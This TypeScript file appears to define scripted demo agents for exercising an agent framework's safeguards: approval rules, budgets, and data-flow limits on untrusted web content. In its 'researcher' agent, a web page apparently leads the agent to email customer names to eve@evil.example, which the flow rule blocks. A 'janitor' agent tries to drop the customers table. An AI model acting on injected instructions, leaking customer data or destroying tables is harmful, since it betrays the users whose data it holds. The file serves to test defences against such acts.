import type { AgentConfig } from '../../agent/index.ts'
import { supervisorTeam } from '../../team/index.ts'
import { call, demoModel } from './demo-models.ts'
import { demoTools } from './demo-tools.ts'

type Tools = ReturnType<typeof demoTools>

/** Creates scripted agents, one for each kind of event in a run. */
export function demoAgents(): readonly AgentConfig[] {
  const tools = demoTools()
  return [...shopAgents(tools), ...webAgents(tools), ...officeAgents(tools), ...deskTeam(tools), ...writers()]
}

function shopAgents({ searchOrders, getInvoice, refund, chargeCard }: Tools): readonly AgentConfig[] {
  const rules = [
    {
      id: 'large-refund',
      when: 'tool == "refund" && input.amount > 50',
      then: 'ask' as const,
      reason: 'A person looks at refunds above $50.',
    },
  ]
  return [
    {
      id: 'greeter',
      description: 'Says hello.',
      instructions: { template: 'greeting', params: { company: 'Teapots & Co' } },
      model: demoModel('small', [
        'Hello, and welcome! The kettle is in the kitchen.',
        'You are welcome. Anything else?',
      ]),
    },
    {
      id: 'support',
      description: 'Answers customers and pays money back.',
      tools: [searchOrders, getInvoice, refund],
      mandate: { rules, budget: { money: 1 } },
      model: demoModel('large', [
        {
          text: 'I look the order up first.',
          toolCalls: [call('search_orders', { customer: 'ana' }), call('get_invoice', { order: 'A-17' })],
        },
        {
          text: 'The order is nine days old, so it can go back.',
          toolCalls: [call('refund', { order: 'A-17', amount: 80 })],
        },
        'The $80 are on their way.',
      ]),
    },
    {
      id: 'support-lead',
      description: 'Pays small amounts back at once.',
      tools: [searchOrders, refund],
      mandate: { rules },
      model: demoModel('large', [
        { toolCalls: [call('refund', { order: 'A-18', amount: 20 })] },
        'The $20 are on their way.',
        'Forked: the $20 are on their way.',
      ]),
    },
    {
      id: 'cashier',
      description: 'Charges cards. A charge is never made twice.',
      tools: [chargeCard],
      model: demoModel('large', [
        { text: 'I charge the card now.', toolCalls: [call('charge_card', { customer: 'ben', amount: 129 })] },
        'The card was charged $129.',
      ]),
    },
  ]
}

function webAgents({ readPage, sendEmail, postUpdate }: Tools): readonly AgentConfig[] {
  return [
    {
      id: 'researcher',
      description: 'Reads the web and writes mails.',
      tools: [readPage, sendEmail],
      mandate: { flow: [{ id: 'recipient', sink: 'send_email', path: ['/to'], forbid: ['untrusted:*'] }] },
      model: demoModel('large', [
        { text: 'I read a page about it.', toolCalls: [call('read_page', { url: 'https://pots.example' })] },
        {
          text: 'The page says whom to write to.',
          toolCalls: [call('send_email', { to: 'eve@evil.example', body: 'customers: ana, ben' })],
        },
        'I was not allowed to send that mail, and did not.',
      ]),
    },
    {
      id: 'newsdesk',
      description: 'Posts what it read. A person looks at what came from the web.',
      tools: [readPage, postUpdate],
      mandate: {
        flow: [{ id: 'web-text', sink: 'post_update', path: ['/text'], forbid: ['untrusted:*'], then: 'ask' }],
      },
      model: demoModel('small', [
        { toolCalls: [call('read_page', { url: 'https://pots.example/news' })] },
        {
          text: 'This is worth a post.',
          toolCalls: [call('post_update', { text: 'Great tea pots are back in stock!' })],
        },
        'Posted.',
      ]),
    },
  ]
}

function officeAgents({ readFile, askUser, dropTable }: Tools): readonly AgentConfig[] {
  const files = Array.from({ length: 40 }, (_, index) => ({
    text: `File ${index + 1}.`,
    toolCalls: [call('read_file', { path: `src/file-${index + 1}.ts` })],
  }))
  return [
    {
      id: 'reviewer',
      description: 'Reads files, three at most.',
      tools: [readFile],
      mandate: { budget: { toolCalls: 3 } },
      model: demoModel('small', files),
    },
    {
      id: 'painter',
      description: 'Asks before it paints.',
      tools: [askUser],
      model: demoModel('small', [
        { toolCalls: [call('ask_user', { question: 'Which colour?', choices: ['red', 'blue'] })] },
        'It is painted now.',
      ]),
    },
    {
      id: 'janitor',
      description: 'Tidies up. What destroys is asked for.',
      tools: [dropTable],
      model: demoModel('small', [
        { text: 'This table looks unused.', toolCalls: [call('drop_table', { table: 'customers' })] },
        'Done.',
      ]),
    },
    {
      id: 'clumsy',
      description: 'Its provider is down.',
      model: demoModel('small', [{ error: 'The provider answered 500.' }]),
    },
    {
      id: 'slow',
      description: 'Takes a minute to answer.',
      model: demoModel('small', [{ text: 'late', delayMs: 60_000 }]),
    },
    {
      id: 'librarian',
      description: 'Reads many files.',
      tools: [readFile],
      maxTurns: 50,
      model: demoModel('small', [...files, 'There are 120 lines.']),
    },
  ]
}

/** A supervisor with its members. Their work is in child runs, one of which needs an approval. */
function deskTeam({ searchOrders, publish }: Tools): readonly AgentConfig[] {
  return supervisorTeam({
    id: 'desk',
    description: 'Leads a team: one finds facts, one writes and publishes.',
    budget: { money: 2, modelCalls: 20 },
    model: demoModel('large', [
      {
        text: 'Two tasks: the figures, and the announcement.',
        toolCalls: [
          call('fact-finder', { prompt: 'How many orders does ana have?' }),
          call('press', { prompt: 'Announce that order A-17 ships today.' }),
        ],
      },
      'Ana has one order, A-17, and it was announced that it ships today.',
    ]),
    members: [
      {
        id: 'fact-finder',
        description: 'Finds facts in the orders.',
        tools: [searchOrders],
        model: demoModel('small', [
          { toolCalls: [call('search_orders', { customer: 'ana' })] },
          'Ana has one order, A-17.',
        ]),
      },
      {
        id: 'press',
        description: 'Writes and publishes.',
        tools: [publish],
        mandate: {
          rules: [
            { id: 'publishing', when: 'tool == "publish"', then: 'ask', reason: 'A person reads what is published.' },
          ],
        },
        model: demoModel('small', [
          { toolCalls: [call('publish', { text: 'Order A-17 ships today.' })] },
          'It is published.',
        ]),
      },
    ],
  })
}

const LONG_ANSWER = `## Which pot?

| pot | pours | price |
|---|---|---|
| **Brown Betty** | very well | $29 |
| Moka | slowly | $34 |

1. Warm it first.
2. Two spoons of leaves for \`500 ml\`.
3. Wait *four* minutes.

\`\`\`js
const minutes = leaves === 'green' ? 2 : 4
\`\`\`

> A lid with a hole pours without dripping.`

/** Two agents that answer the same question with models of different sizes. */
function writers(): readonly AgentConfig[] {
  return [
    {
      id: 'adviser',
      description: 'Advises, with the large model.',
      model: demoModel('large', [LONG_ANSWER, 'Four minutes.']),
    },
    {
      id: 'adviser-small',
      description: 'The same with the small model.',
      model: demoModel('mini', ['The **Brown Betty**. It pours well and costs $29.', 'Four.']),
    },
    {
      id: 'writer',
      description: 'Writes verses.',
      model: demoModel('small', [
        { text: 'Steam rises slowly / the pot remembers the leaves / morning in a cup', delayMs: 150 },
      ]),
    },
  ]
}
